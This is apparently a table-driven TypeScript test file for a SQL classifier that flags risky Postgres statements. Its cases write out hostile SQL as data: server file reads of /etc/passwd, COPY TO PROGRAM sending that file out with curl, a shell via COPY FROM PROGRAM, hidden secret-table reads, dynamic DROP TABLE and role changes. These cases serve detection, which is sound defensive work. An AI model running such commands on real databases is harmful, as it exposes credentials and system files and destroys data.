// statementFacts on trees from the real parser. Table-driven: each case gives the SQL and every
// fact it expects; a list or flag a case leaves out must be empty or false, so a fact that
// appears where it should not fails the case too. `trap` says what a keyword or top-level-kind
// check gets wrong about the statement.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { loadSqlParser, type StatementClass, type StatementFacts, statementFacts } from './index.js';

const parser = await loadSqlParser();

type Flag = Exclude<keyof StatementFacts['flags'], 'prepares' | 'executes'>;

interface Case {
  sql: string;
  classes: StatementClass[];
  /** Names as schema.name or name; "Quoted"."Names" keep their case: Secrets.API_keys. */
  reads?: string[];
  writes?: string[];
  locks?: string[];
  functions?: string[];
  schemaChanges?: string[];
  flags?: Flag[];
  prepares?: string;
  executes?: string;
  unknownKinds?: string[];
  trap?: string;
}

const cases: Case[] = [
  // --- select: plain reads
  { sql: 'select 1', classes: ['select'] },
  { sql: 'select * from t', classes: ['select'], reads: ['t'] },
  {
    sql: 'select * from public.customers c join public.orders o on o.c = c.id',
    classes: ['select'],
    reads: ['public.customers', 'public.orders'],
  },
  { sql: 'TABLE secrets.api_keys', classes: ['select'], reads: ['secrets.api_keys'], trap: 'no SELECT keyword' },
  { sql: 'select * from only secrets.api_keys', classes: ['select'], reads: ['secrets.api_keys'] },
  { sql: 'select * from secrets.api_keys tablesample system (10)', classes: ['select'], reads: ['secrets.api_keys'] },
  { sql: 'SELECT * FROM "Secrets"."API_keys"', classes: ['select'], reads: ['Secrets.API_keys'], trap: 'quoted names keep their case' },
  { sql: 'SELECT * FROM Secrets.API_KEYS', classes: ['select'], reads: ['secrets.api_keys'], trap: 'unquoted names fold to lower case' },
  {
    sql: 'select * from t, t, public.t',
    classes: ['select'],
    reads: ['t', 'public.t'],
    trap: 'deduplicated; qualified and unqualified differ',
  },
  { sql: 'select * from db.secrets.api_keys', classes: ['select'], reads: ['secrets.api_keys'] },
  // --- secrets.api_keys read where a FROM-clause scan does not look
  {
    sql: 'select * from public.t where id in (select id from secrets.api_keys)',
    classes: ['select'],
    reads: ['public.t', 'secrets.api_keys'],
    trap: 'IN subquery',
  },
  { sql: 'select * from (select * from secrets.api_keys) s', classes: ['select'], reads: ['secrets.api_keys'], trap: 'FROM subquery' },
  {
    sql: 'select * from public.a join lateral (select * from secrets.api_keys k where k.id = a.id) s on true',
    classes: ['select'],
    reads: ['public.a', 'secrets.api_keys'],
    trap: 'LATERAL join',
  },
  { sql: 'with k as (select * from secrets.api_keys) select * from k', classes: ['select'], reads: ['secrets.api_keys'], trap: 'CTE body' },
  { sql: 'select 1 where exists (select 1 from secrets.api_keys)', classes: ['select'], reads: ['secrets.api_keys'], trap: 'EXISTS' },
  {
    sql: 'select a from public.t union select key from secrets.api_keys',
    classes: ['select'],
    reads: ['public.t', 'secrets.api_keys'],
    trap: 'UNION branch',
  },
  {
    sql: 'select a from public.t except (select key from secrets.api_keys intersect select 1)',
    classes: ['select'],
    reads: ['public.t', 'secrets.api_keys'],
    trap: 'nested set operation',
  },
  {
    sql: 'select (select key from secrets.api_keys limit 1) as k',
    classes: ['select'],
    reads: ['secrets.api_keys'],
    trap: 'scalar subquery in the SELECT list',
  },
  {
    sql: 'select length((select key from secrets.api_keys limit 1))',
    classes: ['select'],
    reads: ['secrets.api_keys'],
    functions: ['length'],
    trap: 'function argument',
  },
  {
    sql: 'select f(x => (select 1 from secrets.api_keys))',
    classes: ['select'],
    reads: ['secrets.api_keys'],
    functions: ['f'],
    trap: 'named function argument',
  },
  {
    sql: 'select * from public.t order by (select max(k) from secrets.api_keys)',
    classes: ['select'],
    reads: ['public.t', 'secrets.api_keys'],
    functions: ['max'],
    trap: 'ORDER BY subquery',
  },
  {
    sql: 'select count(*) from public.t group by a having sum(a) > (select 1 from secrets.api_keys)',
    classes: ['select'],
    reads: ['public.t', 'secrets.api_keys'],
    functions: ['count', 'sum'],
  },
  { sql: 'select case when true then (select 1 from secrets.api_keys) end', classes: ['select'], reads: ['secrets.api_keys'] },
  { sql: 'values ((select key from secrets.api_keys))', classes: ['select'], reads: ['secrets.api_keys'], trap: 'VALUES' },
  {
    sql: 'select * from public.t where a = any (array(select a from secrets.api_keys))',
    classes: ['select'],
    reads: ['public.t', 'secrets.api_keys'],
  },
  {
    sql: 'select * from public.a a1 left join (public.b join secrets.api_keys k on true) on true',
    classes: ['select'],
    reads: ['public.a', 'public.b', 'secrets.api_keys'],
    trap: 'nested join',
  },
  {
    sql: 'select row_number() over (order by (select 1 from secrets.api_keys)) from public.t',
    classes: ['select'],
    reads: ['secrets.api_keys', 'public.t'],
    functions: ['row_number'],
  },
  {
    sql: "select * from xmltable('/r' passing (select x from secrets.api_keys) columns a int)",
    classes: ['select'],
    reads: ['secrets.api_keys'],
    trap: 'XMLTABLE argument',
  },
  {
    sql: 'select * from rows from (generate_series(1, (select count(*) from secrets.api_keys)::int))',
    classes: ['select'],
    reads: ['secrets.api_keys'],
    functions: ['generate_series', 'count'],
  },
  // --- WITH names are not relations; shadowing and scope
  { sql: 'with api_keys as (select 1) select * from api_keys', classes: ['select'], trap: 'a WITH name shadows the table of that name' },
  {
    sql: 'with api_keys as (select 1) select * from secrets.api_keys',
    classes: ['select'],
    reads: ['secrets.api_keys'],
    trap: 'a qualified name is never a WITH name',
  },
  {
    sql: 'with a as (select * from b), b as (select 1) select * from a',
    classes: ['select'],
    reads: ['b'],
    trap: 'a later WITH name is not visible to an earlier body',
  },
  {
    sql: 'with api_keys as (select * from api_keys) select * from api_keys',
    classes: ['select'],
    reads: ['api_keys'],
    trap: 'a body without RECURSIVE does not see its own name: the table is read',
  },
  { sql: 'with recursive a as (select 1 union all select * from a) select * from a', classes: ['select'], trap: 'RECURSIVE sees itself' },
  {
    sql: 'with a as (select 1) select * from (with b as (select 2) select * from a, b) s, b',
    classes: ['select'],
    reads: ['b'],
    trap: 'an inner WITH name ends with its subquery',
  },
  { sql: 'with x as (select 1) select * from public.t where id in (select * from x)', classes: ['select'], reads: ['public.t'] },
  {
    sql: 'with t as (select 1) insert into t select * from t',
    classes: ['insert', 'select'],
    writes: ['t'],
    trap: 'an INSERT target is never a WITH name',
  },
  {
    sql: 'with s as (select 1 as a) update public.t set a = s.a from s',
    classes: ['update', 'select'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['updateWithoutWhere'],
  },
  // --- writes hidden inside a SELECT
  {
    sql: 'with d as (delete from t returning *) select * from d',
    classes: ['select', 'delete'],
    reads: ['t'],
    writes: ['t'],
    flags: ['deleteWithoutWhere', 'writeInCte'],
    trap: 'a SELECT that deletes',
  },
  {
    sql: 'with u as (update public.t set a = 1 where id = 2 returning *) select count(*) from u',
    classes: ['select', 'update'],
    reads: ['public.t'],
    writes: ['public.t'],
    functions: ['count'],
    flags: ['writeInCte'],
  },
  {
    sql: 'with i as (insert into public.log values (1) returning *) select * from i',
    classes: ['select', 'insert'],
    reads: ['public.log'],
    writes: ['public.log'],
    flags: ['writeInCte'],
  },
  {
    sql: 'with m as (merge into public.t using public.s on t.a = s.a when matched then delete returning *) select * from m',
    classes: ['select', 'merge'],
    reads: ['public.t', 'public.s'],
    writes: ['public.t'],
    flags: ['writeInCte'],
  },
  {
    sql: 'with a as (with d as (delete from secrets.api_keys where id = 1 returning *) select * from d) select * from a',
    classes: ['select', 'delete'],
    reads: ['secrets.api_keys'],
    writes: ['secrets.api_keys'],
    flags: ['writeInCte'],
    trap: 'nested WITH',
  },
  {
    sql: "select pg_read_file('/etc/passwd')",
    classes: ['select'],
    functions: ['pg_read_file'],
    trap: 'a SELECT that reads a server file',
  },
  {
    sql: "select * from pg_catalog.pg_read_binary_file('/etc/passwd')",
    classes: ['select'],
    functions: ['pg_catalog.pg_read_binary_file'],
    trap: 'a function in FROM',
  },
  { sql: "select lo_export(lo_import('/etc/passwd'), '/tmp/x')", classes: ['select'], functions: ['lo_export', 'lo_import'] },
  { sql: "select * from t where a = (select pg_ls_dir('.') limit 1)", classes: ['select'], reads: ['t'], functions: ['pg_ls_dir'] },
  { sql: 'select 1 into t2 from t', classes: ['ddl', 'select'], reads: ['t'], writes: ['t2'], trap: 'SELECT INTO creates a table' },
  { sql: 'select * into temp x from secrets.api_keys', classes: ['ddl', 'select'], reads: ['secrets.api_keys'], writes: ['x'] },
  // --- locking reads
  {
    sql: 'select * from t for update',
    classes: ['select'],
    reads: ['t'],
    locks: ['t'],
    flags: ['lockingRead'],
    trap: 'a SELECT that locks rows',
  },
  {
    sql: 'select * from public.a, public.b x for share of x',
    classes: ['select'],
    reads: ['public.a', 'public.b'],
    locks: ['public.b'],
    flags: ['lockingRead'],
  },
  { sql: 'select * from a for no key update of a for key share', classes: ['select'], reads: ['a'], locks: ['a'], flags: ['lockingRead'] },
  {
    sql: 'select * from (select * from secrets.api_keys) s for update',
    classes: ['select'],
    reads: ['secrets.api_keys'],
    locks: ['secrets.api_keys'],
    flags: ['lockingRead'],
  },
  {
    sql: 'select * from public.t where id in (select id from public.u for update)',
    classes: ['select'],
    reads: ['public.t', 'public.u'],
    locks: ['public.u'],
    flags: ['lockingRead'],
    trap: 'locking in a subquery',
  },
  { sql: 'lock table a, s.b in exclusive mode', classes: ['utility'], locks: ['a', 's.b'] },
  // --- insert
  { sql: 'insert into public.t values (1)', classes: ['insert'], writes: ['public.t'] },
  {
    sql: 'insert into public.t select * from secrets.api_keys',
    classes: ['insert'],
    reads: ['secrets.api_keys'],
    writes: ['public.t'],
    trap: 'INSERT ... SELECT reads secrets',
  },
  {
    sql: 'insert into public.t values ((select key from secrets.api_keys limit 1))',
    classes: ['insert'],
    reads: ['secrets.api_keys'],
    writes: ['public.t'],
  },
  { sql: 'insert into public.t values (1) returning *', classes: ['insert'], reads: ['public.t'], writes: ['public.t'] },
  {
    sql: 'insert into public.t values (1) on conflict (id) do update set n = excluded.n',
    classes: ['insert'],
    reads: ['public.t'],
    writes: ['public.t'],
  },
  { sql: "insert into public.t values (nextval('s'))", classes: ['insert'], writes: ['public.t'], functions: ['nextval'] },
  // --- update
  { sql: 'update public.t set a = 1', classes: ['update'], reads: ['public.t'], writes: ['public.t'], flags: ['updateWithoutWhere'] },
  { sql: 'update public.t set a = 1 where id = 2', classes: ['update'], reads: ['public.t'], writes: ['public.t'] },
  {
    sql: 'update public.t set a = (select 1 from public.u where u.id = 3)',
    classes: ['update'],
    reads: ['public.t', 'public.u'],
    writes: ['public.t'],
    flags: ['updateWithoutWhere'],
    trap: "a WHERE in a subquery is not the UPDATE's",
  },
  {
    sql: 'update public.t set a = 1 from public.u where u.id = t.id',
    classes: ['update'],
    reads: ['public.t', 'public.u'],
    writes: ['public.t'],
  },
  {
    sql: 'update public.t set a = 1 where true',
    classes: ['update'],
    reads: ['public.t'],
    writes: ['public.t'],
    trap: 'has a WHERE: policy cannot judge truthiness',
  },
  { sql: 'update public.t set a = 1 where current of c', classes: ['update'], reads: ['public.t'], writes: ['public.t'] },
  {
    sql: 'UPDATE "Secrets"."API_keys" SET k = 1 WHERE id = 1',
    classes: ['update'],
    reads: ['Secrets.API_keys'],
    writes: ['Secrets.API_keys'],
  },
  // --- delete
  { sql: 'delete from t', classes: ['delete'], reads: ['t'], writes: ['t'], flags: ['deleteWithoutWhere'] },
  { sql: 'DELETE FROM t WHERE true', classes: ['delete'], reads: ['t'], writes: ['t'], trap: 'has a WHERE: truthiness is not judged' },
  {
    sql: 'delete from public.t using secrets.api_keys k where k.id = t.id',
    classes: ['delete'],
    reads: ['public.t', 'secrets.api_keys'],
    writes: ['public.t'],
  },
  {
    sql: 'delete from public.t where id in (select id from public.u)',
    classes: ['delete'],
    reads: ['public.t', 'public.u'],
    writes: ['public.t'],
  },
  // --- merge
  {
    sql: 'merge into public.t using secrets.api_keys s on t.a = s.a when matched then update set b = s.b',
    classes: ['merge'],
    reads: ['public.t', 'secrets.api_keys'],
    writes: ['public.t'],
  },
  {
    sql: 'merge into public.t using (select * from public.s) s on t.a = s.a when not matched then insert values (s.a)',
    classes: ['merge'],
    reads: ['public.t', 'public.s'],
    writes: ['public.t'],
  },
  // --- explain
  {
    sql: 'explain delete from t',
    classes: ['utility', 'delete'],
    reads: ['t'],
    flags: ['deleteWithoutWhere'],
    trap: 'plain EXPLAIN plans, it does not write',
  },
  {
    sql: 'explain analyze delete from t',
    classes: ['utility', 'delete'],
    reads: ['t'],
    writes: ['t'],
    flags: ['deleteWithoutWhere', 'explainAnalyze'],
    trap: 'EXPLAIN ANALYZE runs the DELETE',
  },
  {
    sql: 'explain (analyze, format json) update public.t set a = 1 where id = 1',
    classes: ['utility', 'update'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['explainAnalyze'],
  },
  { sql: 'explain (analyze false) delete from t where id = 1', classes: ['utility', 'delete'], reads: ['t'] },
  { sql: 'explain (analyze off, costs) insert into t values (1)', classes: ['utility', 'insert'] },
  { sql: 'explain (analyze 0) select 1', classes: ['utility', 'select'] },
  {
    sql: 'explain (analyze 1) select * from t for update',
    classes: ['utility', 'select'],
    reads: ['t'],
    locks: ['t'],
    flags: ['lockingRead', 'explainAnalyze'],
  },
  {
    sql: 'explain analyze with d as (delete from t where a = 1 returning *) select * from d',
    classes: ['utility', 'select', 'delete'],
    reads: ['t'],
    writes: ['t'],
    flags: ['explainAnalyze', 'writeInCte'],
  },
  { sql: 'explain execute p(1)', classes: ['utility'], executes: 'p' },
  // --- copy
  { sql: "COPY t FROM PROGRAM 'sh'", classes: ['copy'], writes: ['t'], flags: ['copyProgram'], trap: 'a shell on the server' },
  { sql: "copy (select 1) to program 'curl -d @/etc/passwd x'", classes: ['copy', 'select'], flags: ['copyProgram'] },
  { sql: "copy t to '/tmp/x'", classes: ['copy'], reads: ['t'], flags: ['copyFile'] },
  { sql: "copy t from '/etc/passwd'", classes: ['copy'], writes: ['t'], flags: ['copyFile'] },
  { sql: 'copy t from stdin', classes: ['copy'], writes: ['t'] },
  { sql: 'copy secrets.api_keys to stdout', classes: ['copy'], reads: ['secrets.api_keys'] },
  {
    sql: 'copy (select * from secrets.api_keys) to stdout',
    classes: ['copy', 'select'],
    reads: ['secrets.api_keys'],
    trap: 'COPY of a query',
  },
  {
    sql: 'copy (delete from public.t returning *) to stdout',
    classes: ['copy', 'delete'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['deleteWithoutWhere'],
    trap: 'COPY runs a DELETE',
  },
  // --- dynamic SQL
  {
    sql: "DO $$BEGIN EXECUTE 'DROP TABLE public.victim'; END$$",
    classes: ['utility'],
    flags: ['dynamicSql'],
    trap: 'the DROP is a string',
  },
  { sql: "do language plpgsql 'begin perform 1; end'", classes: ['utility'], flags: ['dynamicSql'] },
  {
    sql: "select dblink_exec('dbname=demo', 'drop table t')",
    classes: ['select'],
    functions: ['dblink_exec'],
    flags: ['dynamicSql'],
    trap: 'a SELECT that runs SQL elsewhere',
  },
  { sql: "select * from dblink('dbname=demo', 'select 1') as t(a int)", classes: ['select'], functions: ['dblink'], flags: ['dynamicSql'] },
  {
    sql: "select query_to_xml('select * from secrets.api_keys', true, true, '')",
    classes: ['select'],
    functions: ['query_to_xml'],
    flags: ['dynamicSql'],
    trap: 'a query in a string',
  },
  {
    sql: "select table_to_xml('secrets.api_keys', true, true, '')",
    classes: ['select'],
    functions: ['table_to_xml'],
    flags: ['dynamicSql'],
  },
  { sql: "select * from ts_stat('select v from secrets.docs')", classes: ['select'], functions: ['ts_stat'], flags: ['dynamicSql'] },
  // --- routines, rules, triggers
  {
    sql: 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM public.t $$',
    classes: ['ddl', 'delete'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['routineDefinition', 'deleteWithoutWhere'],
    trap: 'the DELETE is a string body',
  },
  {
    sql: "create or replace function f() returns setof text language sql as 'select key from secrets.api_keys; select pg_read_file(''/etc/passwd'')'",
    classes: ['ddl', 'select'],
    reads: ['secrets.api_keys'],
    functions: ['pg_read_file'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create function f() returns int language sql begin atomic delete from public.t where a = 1; select 1; end',
    classes: ['ddl', 'delete', 'select'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create function f(a int) returns int language sql return a + (select count(*) from secrets.api_keys)',
    classes: ['ddl', 'select'],
    reads: ['secrets.api_keys'],
    functions: ['count'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create procedure p() language sql as $$ update public.t set a = 1 $$',
    classes: ['ddl', 'update'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['routineDefinition', 'updateWithoutWhere'],
  },
  {
    sql: "create function f() returns int language plpgsql as $$ begin execute 'drop table t'; return 1; end $$",
    classes: ['ddl'],
    flags: ['routineDefinition', 'dynamicSql'],
    trap: 'plpgsql bodies are not read',
  },
  { sql: "create function f() returns int language c as 'mylib', 'f'", classes: ['ddl'], flags: ['routineDefinition', 'dynamicSql'] },
  {
    sql: "create function f() returns int language sql as 'this is not sql'",
    classes: ['ddl'],
    flags: ['routineDefinition', 'dynamicSql'],
  },
  {
    sql: "create function f(a int default nextval('s')) returns int language sql return a",
    classes: ['ddl', 'select'],
    functions: ['nextval'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create function f() returns int language sql set search_path = secrets as $$ select 1 $$',
    classes: ['ddl', 'select'],
    flags: ['routineDefinition'],
    trap: "a function-local search_path is not the session's",
  },
  {
    sql: 'create function f() returns void language sql as $$ create function g() returns void language sql as $b$ delete from public.t $b$ $$',
    classes: ['ddl', 'delete'],
    reads: ['public.t'],
    writes: ['public.t'],
    flags: ['routineDefinition', 'deleteWithoutWhere'],
    trap: 'a body in a body',
  },
  {
    sql: 'CREATE RULE r AS ON INSERT TO public.t DO ALSO (DELETE FROM secrets.api_keys; INSERT INTO public.v VALUES (1))',
    classes: ['ddl', 'delete', 'insert'],
    reads: ['secrets.api_keys'],
    writes: ['public.t', 'secrets.api_keys', 'public.v'],
    flags: ['routineDefinition', 'deleteWithoutWhere'],
  },
  {
    sql: 'create rule r as on select to t do instead select * from secrets.api_keys',
    classes: ['ddl', 'select'],
    reads: ['secrets.api_keys'],
    writes: ['t'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create trigger tr after insert on public.t for each row execute function s.f()',
    classes: ['ddl'],
    writes: ['public.t'],
    functions: ['s.f'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create or replace trigger tr before update on t for each row when (f(new.a)) execute procedure g()',
    classes: ['ddl'],
    writes: ['t'],
    functions: ['g', 'f'],
    flags: ['routineDefinition'],
  },
  {
    sql: 'create event trigger et on ddl_command_start execute function audit()',
    classes: ['ddl'],
    functions: ['audit'],
    flags: ['routineDefinition'],
  },
  { sql: 'alter function f() set search_path = public', classes: ['ddl'] },
  // --- call, prepare, execute, cursors
  { sql: 'call s.p(1)', classes: ['utility'], functions: ['s.p'], flags: ['call'] },
  {
    sql: "call p((select key from secrets.api_keys limit 1), pg_read_file('/x'))",
    classes: ['utility'],
    reads: ['secrets.api_keys'],
    functions: ['p', 'pg_read_file'],
    flags: ['call'],
  },
  {
    sql: 'prepare q as delete from t where id = $1',
    classes: ['utility', 'delete'],
    reads: ['t'],
    writes: ['t'],
    prepares: 'q',
    trap: 'the prepared DELETE runs later',
  },
  {
    sql: 'prepare q (int) as select * from secrets.api_keys where id = $1',
    classes: ['utility', 'select'],
    reads: ['secrets.api_keys'],
    prepares: 'q',
  },
  { sql: 'execute q(1)', classes: ['utility'], executes: 'q' },
  { sql: 'create table t2 as execute q', classes: ['ddl', 'utility'], writes: ['t2'], executes: 'q' },
  { sql: 'deallocate q', classes: ['utility'] },
  { sql: 'declare c cursor for select * from secrets.api_keys', classes: ['utility', 'select'], reads: ['secrets.api_keys'] },
  {
    sql: 'declare c cursor for select * from t for update',
    classes: ['utility', 'select'],
    reads: ['t'],
    locks: ['t'],
    flags: ['lockingRead'],
  },
  { sql: 'fetch 10 from c', classes: ['utility'] },
  { sql: 'close c', classes: ['utility'] },
  // --- search path and role
  { sql: 'set search_path = secrets, public', classes: ['utility'], flags: ['searchPathChange'] },
  { sql: 'SET LOCAL search_path TO a', classes: ['utility'], flags: ['searchPathChange'] },
  { sql: 'set session "search_path" to a', classes: ['utility'], flags: ['searchPathChange'] },
  { sql: "set schema 'secrets'", classes: ['utility'], flags: ['searchPathChange'], trap: 'SET SCHEMA says no search_path' },
  { sql: 'reset search_path', classes: ['utility'], flags: ['searchPathChange'] },
  { sql: 'reset all', classes: ['utility'], flags: ['searchPathChange'] },
  { sql: 'discard all', classes: ['utility'], flags: ['searchPathChange', 'roleChange'] },
  { sql: 'discard plans', classes: ['utility'] },
  {
    sql: "select set_config('search_path', 'secrets', false)",
    classes: ['select'],
    functions: ['set_config'],
    flags: ['searchPathChange'],
    trap: 'a SELECT that changes the search path',
  },
  {
    sql: "select pg_catalog.set_config('SEARCH_PATH'::text, 'secrets', true)",
    classes: ['select'],
    functions: ['pg_catalog.set_config'],
    flags: ['searchPathChange'],
  },
  {
    sql: "select set_config(name, 'x', false) from public.settings",
    classes: ['select'],
    reads: ['public.settings'],
    functions: ['set_config'],
    flags: ['searchPathChange', 'roleChange'],
    trap: 'a name that is not a literal could be anything',
  },
  { sql: "select set_config('work_mem', '64MB', false)", classes: ['select'], functions: ['set_config'] },
  { sql: "select set_config('role', 'admin', false)", classes: ['select'], functions: ['set_config'], flags: ['roleChange'] },
  { sql: 'alter role bob set search_path = secrets', classes: ['dcl'], flags: ['searchPathChange'] },
  { sql: 'alter database demo set search_path = secrets', classes: ['ddl'], flags: ['searchPathChange'] },
  { sql: 'alter system set search_path = secrets', classes: ['ddl'], flags: ['searchPathChange'] },
  { sql: 'set work_mem = 1024', classes: ['utility'] },
  { sql: 'show search_path', classes: ['utility'] },
  { sql: 'set role admin', classes: ['utility'], flags: ['roleChange'] },
  { sql: 'set session authorization bob', classes: ['utility'], flags: ['roleChange'] },
  { sql: 'reset role', classes: ['utility'], flags: ['roleChange'] },
  { sql: 'reset session authorization', classes: ['utility'], flags: ['roleChange'] },
  { sql: 'set session authorization default', classes: ['utility'], flags: ['roleChange'] },
  {
    sql: "select set_config(setting_name => 'work_mem', new_value => 'x', is_local => false)",
    classes: ['select'],
    functions: ['set_config'],
    flags: ['searchPathChange', 'roleChange'],
    trap: 'named arguments are not read: fail closed',
  },
  // --- ddl
  { sql: 'create table public.t (a int default f(), check (g(a) > 0))', classes: ['ddl'], writes: ['public.t'], functions: ['f', 'g'] },
  {
    sql: 'create table x (a int references secrets.api_keys (id), like public.src) inherits (public.p)',
    classes: ['ddl'],
    reads: ['secrets.api_keys', 'public.src'],
    writes: ['x', 'public.p'],
  },
  { sql: 'create table p1 partition of secrets.parent for values in (1)', classes: ['ddl'], writes: ['p1', 'secrets.parent'] },
  {
    sql: 'create table public.t2 as select * from secrets.api_keys',
    classes: ['ddl', 'select'],
    reads: ['secrets.api_keys'],
    writes: ['public.t2'],
    trap: 'CREATE TABLE AS reads',
  },
  { sql: 'create materialized view mv as select 1 from s.t', classes: ['ddl', 'select'], reads: ['s.t'], writes: ['mv'] },
  {
    sql: 'create view public.v as select * from secrets.api_keys',
    classes: ['ddl', 'select'],
    reads: ['secrets.api_keys'],
    writes: ['public.v'],
  },
  { sql: 'refresh materialized view mv', classes: ['ddl'], writes: ['mv'] },
  { sql: 'drop table public.victim', classes: ['ddl'], writes: ['public.victim'] },
  { sql: 'drop table if exists s.t, u cascade', classes: ['ddl'], writes: ['s.t', 'u'] },
  { sql: 'drop view v', classes: ['ddl'], writes: ['v'] },
  { sql: 'drop index s.i', classes: ['ddl'], writes: ['s.i'] },
  { sql: 'drop function f(int)', classes: ['ddl'] },
  { sql: 'drop trigger tr on secrets.api_keys', classes: ['ddl'], writes: ['secrets.api_keys'] },
  { sql: 'drop policy p on api_keys', classes: ['ddl'], writes: ['api_keys'] },
  {
    sql: 'explain create table t2 as select * from t',
    classes: ['utility', 'ddl', 'select'],
    reads: ['t'],
    trap: 'plain EXPLAIN does not create',
  },
  {
    sql: 'explain analyze create table t2 as select * from t',
    classes: ['utility', 'ddl', 'select'],
    reads: ['t'],
    writes: ['t2'],
    flags: ['explainAnalyze'],
  },
  { sql: 'drop schema secrets cascade', classes: ['ddl'], schemaChanges: ['secrets'] },
  {
    sql: 'create schema s create table t (a int) create view v as select * from secrets.api_keys',
    classes: ['ddl', 'select'],
    reads: ['secrets.api_keys'],
    writes: ['t', 'v'],
    schemaChanges: ['s'],
  },
  { sql: 'alter schema s rename to secrets', classes: ['ddl'], schemaChanges: ['s', 'secrets'] },
  { sql: 'alter table public.t add column b int default g()', classes: ['ddl'], writes: ['public.t'], functions: ['g'] },
  { sql: 'alter table t inherit secrets.api_keys', classes: ['ddl'], writes: ['t', 'secrets.api_keys'] },
  { sql: 'alter table t attach partition s.p for values in (1)', classes: ['ddl'], writes: ['t', 's.p'] },
  { sql: 'alter table s.t rename to u', classes: ['ddl'], writes: ['s.t', 's.u'] },
  { sql: 'alter table s.t rename column a to b', classes: ['ddl'], writes: ['s.t'] },
  { sql: 'alter table public.t set schema secrets', classes: ['ddl'], writes: ['public.t', 'secrets.t'], schemaChanges: ['secrets'] },
  { sql: 'create index on public.t (lower(a))', classes: ['ddl'], writes: ['public.t'], functions: ['lower'] },
  { sql: 'create sequence s.seq', classes: ['ddl'], writes: ['s.seq'] },
  { sql: 'create policy p on secrets.api_keys using (true)', classes: ['ddl'], writes: ['secrets.api_keys'] },
  { sql: "comment on table t is 'x'", classes: ['ddl'] },
  { sql: 'create extension dblink', classes: ['ddl'] },
  { sql: "create type mood as enum ('a')", classes: ['ddl'] },
  { sql: 'create database d', classes: ['ddl'] },
  {
    sql: 'TRUNCATE public.t, secrets.api_keys',
    classes: ['ddl'],
    writes: ['public.t', 'secrets.api_keys'],
    flags: ['truncate'],
    trap: 'TRUNCATE empties a table without DELETE',
  },
  // --- dcl
  { sql: 'grant select on secrets.api_keys to bob', classes: ['dcl'], writes: ['secrets.api_keys'] },
  { sql: 'grant all on all tables in schema secrets to bob', classes: ['dcl'], schemaChanges: ['secrets'] },
  { sql: 'grant usage on schema secrets to public', classes: ['dcl'], schemaChanges: ['secrets'] },
  { sql: 'revoke execute on function f(int) from bob', classes: ['dcl'] },
  { sql: 'grant admin to bob', classes: ['dcl'] },
  { sql: 'alter default privileges in schema s grant select on tables to bob', classes: ['dcl'] },
  { sql: 'create role r login', classes: ['dcl'] },
  { sql: 'alter role r superuser', classes: ['dcl'] },
  { sql: 'drop role r', classes: ['dcl'] },
  { sql: 'reassign owned by a to b', classes: ['dcl'] },
  // --- utility and transaction
  { sql: 'vacuum analyze s.t', classes: ['utility'], writes: ['s.t'] },
  { sql: 'analyze', classes: ['utility'] },
  { sql: 'checkpoint', classes: ['utility'] },
  { sql: "load 'auto_explain'", classes: ['utility'] },
  { sql: 'listen ch', classes: ['utility'] },
  { sql: "notify ch, 'x'", classes: ['utility'] },
  { sql: 'cluster public.t using i', classes: ['utility'], writes: ['public.t'] },
  { sql: 'reindex table public.t', classes: ['utility'], writes: ['public.t'] },
  { sql: 'begin', classes: ['transaction'] },
  { sql: 'start transaction isolation level serializable', classes: ['transaction'] },
  { sql: 'savepoint a', classes: ['transaction'] },
  { sql: 'rollback to savepoint a', classes: ['transaction'] },
  { sql: 'commit', classes: ['transaction'] },
  { sql: 'set constraints all deferred', classes: ['transaction'] },
];

const ALL_FLAGS: Flag[] = [
  'updateWithoutWhere',
  'deleteWithoutWhere',
  'copyProgram',
  'copyFile',
  'dynamicSql',
  'routineDefinition',
  'explainAnalyze',
  'writeInCte',
  'lockingRead',
  'searchPathChange',
  'roleChange',
  'call',
  'truncate',
];

/** schema.name, or name when unqualified. */
function names(refs: readonly { schema: string | null; name: string }[]): string[] {
  return refs.map((r) => (r.schema === null ? r.name : `${r.schema}.${r.name}`));
}

function factsOf(sql: string): StatementFacts {
  const c = parser.classify(sql);
  assert.ok(c.ok, `${sql}: ${c.ok ? '' : c.error}`);
  assert.equal(c.statements.length, 1, sql);
  return c.statements[0]!.facts;
}

test('the table has enough cases, and every flag and class is both set and unset by some case', () => {
  assert.ok(cases.length >= 120, `${cases.length} cases`);
  for (const flag of ALL_FLAGS)
    assert.ok(
      cases.some((c) => c.flags?.includes(flag)),
      flag,
    );
  for (const cls of ['select', 'insert', 'update', 'delete', 'merge', 'ddl', 'dcl', 'copy', 'utility', 'transaction'] as const) {
    assert.ok(
      cases.some((c) => c.classes[0] === cls),
      cls,
    );
  }
});

for (const c of cases) {
  test(`${c.sql}${c.trap ? `  [${c.trap}]` : ''}`, () => {
    const f = factsOf(c.sql);
    const truthy = ALL_FLAGS.filter((flag) => f.flags[flag]);
    assert.deepEqual(
      {
        classes: f.classes,
        reads: names(f.reads),
        writes: names(f.writes),
        locks: names(f.locks),
        functions: names(f.functions),
        schemaChanges: f.schemaChanges,
        flags: truthy.sort(),
        prepares: f.flags.prepares,
        executes: f.flags.executes,
        unknownKinds: f.unknownKinds,
      },
      {
        classes: c.classes,
        reads: c.reads ?? [],
        writes: c.writes ?? [],
        locks: c.locks ?? [],
        functions: c.functions ?? [],
        schemaChanges: c.schemaChanges ?? [],
        flags: [...(c.flags ?? [])].sort(),
        prepares: c.prepares ?? null,
        executes: c.executes ?? null,
        unknownKinds: c.unknownKinds ?? [],
      },
    );
  });
}

test('a multi-statement string is split first: one set of facts per statement', () => {
  const c = parser.classify('select * from public.t; delete from secrets.api_keys; set search_path = secrets');
  assert.ok(c.ok);
  assert.deepEqual(
    c.statements.map((s) => [s.facts.kind, s.facts.classes, names(s.facts.writes), s.facts.flags.searchPathChange]),
    [
      ['SelectStmt', ['select'], [], false],
      ['DeleteStmt', ['delete'], ['secrets.api_keys'], false],
